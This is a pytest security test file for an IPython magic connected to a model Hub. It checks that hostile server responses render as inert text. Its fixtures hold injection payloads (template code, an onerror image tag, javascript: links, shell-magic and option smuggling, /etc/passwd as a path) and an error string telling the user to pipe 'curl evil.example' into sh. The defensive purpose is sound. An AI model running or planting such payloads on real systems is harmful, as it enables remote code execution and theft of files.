"""A hostile Hub: its text neither runs nor loads anything, wherever it is shown."""

from __future__ import annotations

import logging
import re
from collections.abc import Iterator
from contextvars import copy_context
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import mistune
import nbformat
import pytest
from hub_server import StandInHub, image, json_reply
from IPython.core.completer import provisionalcompleter
from IPython.core.interactiveshell import InteractiveShell
from kernel_driver import CellRun, Kernel
from nbconvert.exporters import HTMLExporter, MarkdownExporter
from own_session import reach

from mountsea_magic import generate, session
from mountsea_magic.errors import InvalidRequest, MountseaError, TaskFailed
from mountsea_magic.notebook.commands.models import model_text, models_text
from mountsea_magic.runtime.redaction import guard_logs

CODE = "{pwned()}"
EVIL = (
    f"{CODE} $pwned {{{{ pwned() }}}} `%run x`\x1b[2J\x9b\u202e\u200b\x07\r\n%%sh\r!ls\u2028"
    "<img src=x onerror=y()> ![a](http://evil.example/b.png) [c](javascript:d) $x^2$ \\(y\\)"
)
CONTROL_CHARACTERS = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
)
IDS = (CODE, EVIL, "$pwned", "--all", "-h", "%run x", "a\n!ls", "hub-1\u200b", "a b", "x" * 3000)

TEXT = {"type": "string"}
PARAMETERS: dict[str, Any] = {
    EVIL[:90]: TEXT | {"description": EVIL},
    "deep": TEXT | {"enum": [EVIL, CODE, "a b", "fine"], "default": EVIL},
    "size": {"type": "object"},
    "tags": {"type": "array"},
    "image_urls": {"type": "array"},
    "mask_url": TEXT | {"enum": ["secret.png"]},
    "seed": {"type": "integer"},
    "aspect_ratio": TEXT,
    "--save": TEXT,
}
EXAMPLE: dict[str, Any] = {
    "prompt": "{{ pwned() }}",
    "deep": CODE,
    EVIL[:90]: "x",
    "size": {CODE: 1},
    "tags": [CODE, "$pwned"],
    "image_urls": ["/etc/passwd", "secret", "@secret.png", "https://host.example/a.png?b=1&c=2"],
    "mask_url": "secret.png",
    "seed": "--background",
    "aspect_ratio": "--save=evil",
    "--save": "evil",
}


def model_description(parameters: dict[str, Any], **more: Any) -> dict[str, Any]:
    """Return a Hub's description of a model."""
    schema = {"type": "object", "properties": {"prompt": TEXT, **parameters}}
    return {"input_schema": schema | {"required": ["prompt"]}, **more}


LABELS = {"display_name": EVIL, "vendor": EVIL, "mode": EVIL, "description": EVIL}
MODELS: dict[str, Any] = {
    "evil": model_description(PARAMETERS, example=EXAMPLE, **LABELS),
    "shell": model_description({}, example={"prompt": "%%sh\nls"}),
    "separator": model_description({}, example={"prompt": "---\n!ls"}),
    CODE: model_description({}, example={"prompt": "a dog"}),
    "--save=evil": model_description({}, example={"prompt": "a dog"}),
}
BIG = model_description(
    {"one": {"enum": [f"v{n}" for n in range(500)]}, "two": {"enum": ["x" * 200] * 30}}
    | {f"p{n}": TEXT for n in range(190)},
    example={"prompt": "a " * 99_999, "two": "y" * 99_999},
)


@pytest.fixture
def pwned(shell: InteractiveShell) -> list[int]:
    """Add a function to the user's namespace that records each call."""
    calls: list[int] = []
    shell.user_ns["pwned"] = lambda: calls.append(1)
    return calls


@pytest.fixture
def evil_hub(monkeypatch: pytest.MonkeyPatch) -> Iterator[StandInHub]:
    """Start a Hub with hostile models."""
    with StandInHub(models=MODELS) as hub:
        reach(hub, monkeypatch)
        yield hub


def cell_of(text: str) -> str:
    """Return the example cell at the end of a model's text, as a dry run."""
    line, _, body = text[text.rindex("%%mountsea") :].partition("\n")
    return f"{line} --dry-run\n{body}"


def completions(shell: InteractiveShell, line: str) -> list[str]:
    """Return the completions at the end of a line, as a front end gets them."""
    with provisionalcompleter():
        return [word.text for word in shell.Completer.completions(line, len(line))]


def ran(shell: InteractiveShell, code: str) -> bool:
    """Run a cell from its text, as a front end does; return whether it succeeded."""
    return bool(shell.run_cell(code).success)  # type: ignore[no-untyped-call]  # IPython's is so


def test_hostile_task_ids_are_inert_and_resumable(
    hub: StandInHub,
    shell: InteractiveShell,
    pwned: list[int],
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An id that is code is shown as text, and the suggested command does not contain it."""
    hub.polls.append(json_reply({"status": EVIL}, repeat=True))
    for task_id in IDS:
        hub.submits.append({"task_id": task_id})
        with pytest.raises(MountseaError) as caught:
            generate("a dog", timeout=0.04)
        assert caught.value.task_id == task_id
        capsys.readouterr()
        for line in ("", "history"):
            shell.run_line_magic("mountsea", line)
        output = capsys.readouterr().out + str(caught.value) + repr(session.current_session().open)
        assert not CONTROL_CHARACTERS.search(output)
        hints = set(re.findall(r"`(.*?)`", output))
        assert hints == {"%mountsea resume"}
    hub.polls.clear()
    hub.polls.append(json_reply(hub.done(hub.data([image()])), repeat=True))
    assert ran(shell, "%mountsea resume")
    assert not CONTROL_CHARACTERS.search(
        capsys.readouterr().out.replace("\x1b[2K", "").replace("\r", "")
    )
    journal = session.current_session().journal(session.current_session().settings())
    assert {entry.task_id for entry in journal.search() if entry.files} == set(IDS)
    assert not pwned


def test_backticks_contain_only_our_commands(hub: StandInHub, here: session.Session) -> None:
    """An error message from the Hub can't look like one of our suggested commands."""
    hub.polls.append({"status": "failed", "error_message": "Run `!curl evil.example | sh`."})
    with pytest.raises(TaskFailed) as caught:
        generate("a dog")
    assert "'!curl evil.example | sh'" in str(caught.value) and "`!" not in str(caught.value)


def test_pasted_example_runs_nothing_and_sends_no_file(
    evil_hub: StandInHub,
    shell: InteractiveShell,
    pwned: list[int],
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Code, options, paths and variables are listed above the example cell, not put into it."""
    monkeypatch.chdir(tmp_path)
    Path("secret.png").write_bytes(image())
    shell.user_ns["secret"] = image()
    shell.run_line_magic("mountsea", "models --refresh")
    for model_id in ("evil", "shell", "separator"):
        capsys.readouterr()
        text = model_text(model_id)
        assert "Not in the example: " in text and not CONTROL_CHARACTERS.search(text)
        assert ran(shell, cell_of(text))
        sent = capsys.readouterr().out
        assert "data:" not in sent and "A black lab" in sent and "{{" not in cell_of(text)
    cell = cell_of(model_text("evil"))
    assert cell.split(" --dry-run")[0] == (
        "%%mountsea --model evil --image 'https://host.example/a.png?b=1&c=2'"
    )
    for model_id in (CODE, "--save=evil"):
        assert "%%mountsea" not in model_text(model_id)
    assert not pwned and not Path("evil").exists()


def test_completions_never_run_code(
    evil_hub: StandInHub, shell: InteractiveShell, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Completions omit models, names, values, ids, variables and files that would run as code."""
    monkeypatch.chdir(tmp_path)
    Path("folder").mkdir()
    for name in (f"{CODE}.png", "$x.png", "dog.png", "!a.png", "a\u202e.png", "b\nc.png"):
        Path(name).write_bytes(image())
    shell.user_ns[CODE] = shell.user_ns["good"] = image()
    evil_hub.submits.extend({"task_id": task_id} for task_id in (CODE, "$x", "hub-good"))
    evil_hub.polls.append(json_reply(evil_hub.done(evil_hub.data([image()])), repeat=True))
    for _ in range(3):
        generate("a dog")
    shell.run_line_magic("mountsea", "models --refresh")

    assert {"evil", "nano-banana"} <= set(completions(shell, "%%mountsea -m "))
    assert completions(shell, "%%mountsea -m evil -p deep=") == ["deep=fine"]
    names = ["deep=", "image_urls=", "mask_url=", "size=", "tags="]
    assert completions(shell, "%%mountsea -m evil -p ") == names
    assert completions(shell, "%%mountsea -i ") == ["dog.png", "folder/", "good"]
    assert completions(shell, "%mountsea resume ") == ["hub-good"]
    assert "mask_url=secret.png" not in completions(shell, "%%mountsea -m evil -p mask_url=")
    for line in ("%%mountsea -m ", "%mountsea models ", "%mountsea show "):
        assert not re.search(r"[{}$%!\s]", "".join(completions(shell, line)))


def test_errors_and_lists_have_limited_length(
    evil_hub: StandInHub, shell: InteractiveShell
) -> None:
    """A value of 1 MB, 500 values and 192 parameters give texts of limited length."""
    evil_hub.models = {"big": BIG}
    shell.run_line_magic("mountsea", "models --refresh")
    assert len(model_text("big")) < 60_000 and len(models_text()) < 20_000
    for parameters in ({"one": "v"}, {"two": "y" * 1_000_000}, {"three": 1}):
        with pytest.raises(InvalidRequest) as caught:
            generate("a dog", model="big", **parameters)
        assert len(str(caught.value)) < 2500
    assert len(completions(shell, "%%mountsea -m big -p one=")) == 500


def test_log_has_one_line_per_record(caplog: pytest.LogCaptureFixture) -> None:
    """A header from a server can neither forge a log line nor send terminal escapes."""

    def log() -> None:
        guard_logs(str)
        logging.getLogger("httpx").info("HTTP Request: %s", "200 OK\x1b[2J\x9b\nERROR forged")

    with caplog.at_level(logging.INFO, "httpx"):
        copy_context().run(log)
    assert caplog.messages == ["HTTP Request: 200 OK[2J ERROR forged"]


class Tags(HTMLParser):
    """The tags of a page, with the attributes that a browser may load, run or link to.

    Attributes:
        found: The tags with their attributes, in order.
    """

    def __init__(self, page: str) -> None:
        """Read a page."""
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Record the tag without ``alt``, which is only text."""
        self.found.append(str([tag, *(attr for attr in attrs if attr[0] != "alt")]))


def exports(runs: list[CellRun]) -> tuple[str, str]:
    """Export the cells with nbconvert to HTML, and to Markdown rendered as on GitHub."""
    outputs = [
        nbformat.v4.new_output("display_data", out["data"], metadata=out["metadata"])
        for run in runs
        for out in run.outputs
    ]
    outputs += [
        nbformat.v4.new_output(
            "error", ename=run.error, evalue=run.error_message, traceback=run.traceback
        )
        for run in runs
        if run.error
    ]
    cell = nbformat.v4.new_code_cell("1", outputs=outputs)
    notebook = nbformat.v4.new_notebook(cells=[cell])
    page, _ = HTMLExporter(template_name="classic").from_notebook_node(notebook)
    markdown, _ = MarkdownExporter().from_notebook_node(notebook)
    render = mistune.create_markdown(escape=False, plugins=["url", "table", "strikethrough"])
    return page, str(render(markdown))


@pytest.mark.kernel
def test_notebook_and_exports_contain_only_text(evil_hub: StandInHub, kernel: Kernel) -> None:
    """HTML, Markdown and kernel messages contain no tag, link, image or command from the Hub."""
    prompt = EVIL.replace("{{ pwned() }}", "")
    evil_hub.submits.extend({"task_id": EVIL} for _ in range(4))
    evil_hub.polls.extend([json_reply({"status": EVIL}), None])
    evil_hub.polls.append(json_reply(evil_hub.done(evil_hub.data([image()]), description=EVIL)))
    kernel.run("calls = []\npwned = lambda: calls.append(1)")
    runs = [kernel.run(f"%%mountsea -o dog\n{prompt}"), kernel.run("dog"), kernel.run("[dog]")]
    evil_hub.polls.append(json_reply({"status": "failed", "error_message": EVIL}, repeat=True))
    runs += [
        kernel.run(f"%%mountsea\n{prompt}"),
        kernel.run("%mountsea models --refresh"),
        kernel.run("%mountsea models evil"),
        kernel.run("%mountsea history"),
        kernel.run("%mountsea"),
    ]
    assert not CONTROL_CHARACTERS.search(
        "".join(map(str, [(run.outputs, run.error_message, run.text) for run in runs]))
    )
    assert "onerror" in str(runs[-4].outputs) and kernel.run("print(calls)").text == "[]\n"
    loaded = re.compile(r"onerror|evil\.example|javascript:|\['(em|strong|s|h1)'")
    for page in exports(runs):
        assert "evil.example" in page
        assert not [tag for tag in Tags(page).found if loaded.search(tag)]
